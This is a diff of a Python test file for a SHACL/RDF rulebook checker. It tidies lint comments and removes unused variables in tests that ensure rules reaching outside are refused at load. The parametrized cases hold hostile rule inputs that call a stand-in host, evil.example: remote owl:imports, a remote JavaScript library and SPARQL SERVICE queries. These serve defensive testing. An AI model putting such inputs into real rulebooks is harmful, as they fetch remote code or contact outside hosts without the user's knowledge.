@@ -83,11 +83,11 @@ def test_sparql_that_reaches_out_is_refused_at_load(select: str, word: str, tmp_
     [
         ("<https://w3id.org/kaderwacht/regel/> owl:imports <http://evil.example/rules> .", "owl:imports"),
         ("regel:EIGEN-001 sh:js [ sh:jsLibrary [ sh:jsLibraryURL <http://evil.example/a.js> ] ] .", "sh:js"),
-        ("regel:EIGEN-001 sh:target [ a sh:SPARQLTarget ; sh:select 'SELECT ?this { SERVICE <http://evil.example/> {} }' ] .",
+        ("regel:EIGEN-001 sh:target [ a sh:SPARQLTarget ; sh:select 'SELECT ?this { SERVICE <http://evil.example/> {} }' ] .",  # noqa: E501
          "SPARQL"),
-        ("regel:EIGEN-001 sh:rule [ a sh:SPARQLRule ; sh:construct 'CONSTRUCT {} WHERE { SERVICE <http://evil.example/> {} }' ] .",
+        ("regel:EIGEN-001 sh:rule [ a sh:SPARQLRule ; sh:construct 'CONSTRUCT {} WHERE { SERVICE <http://evil.example/> {} }' ] .",  # noqa: E501
          "sh:rule"),
-        ("regel:f a sh:SPARQLFunction ; sh:select 'SELECT ?x { SERVICE <http://evil.example/> {} }' .", "SPARQLFunction"),
+        ("regel:f a sh:SPARQLFunction ; sh:select 'SELECT ?x { SERVICE <http://evil.example/> {} }' .", "SPARQLFunction"),  # noqa: E501
         ("regel:EIGEN-001 sh:shapesGraph <http://evil.example/shapes> .", "sh:shapesGraph"),
     ],
 )  # fmt: skip
@@ -132,16 +132,12 @@ def test_all_typos_of_a_rulebook_come_at_once(tmp_path: Path) -> None:
 
 
 def test_a_rule_that_tests_nothing_is_told_and_strict_blocks(tmp_path: Path) -> None:
-    body = FAILS.replace("sh:property", "kw:applicatiePad rdf:nil ; sh:property")
     done = check(tmp_path, FAILS.replace('"Gepland"', '"In productie"'), args=("--strict",))
     assert done.code == 0, done.err
-    del body
     put(tmp_path, "b.ttl", GOOD.replace("a kw:Applicatie ;", "a kw:Kanaal ;"))
     call = ("check", "b.ttl", "--rules", "eigen", "--only", "EIGEN", "--date", "2026-11-23")
     # nothing at all could be assessed
     refused(run(*call, cwd=tmp_path), 3, "niets getoetst")
-    both = ("check", "a.ttl", "--only", "ICT-005,PLAN-001", "--date", "2026-11-23")
-    del both
 
 
 # -- 17: endless rules
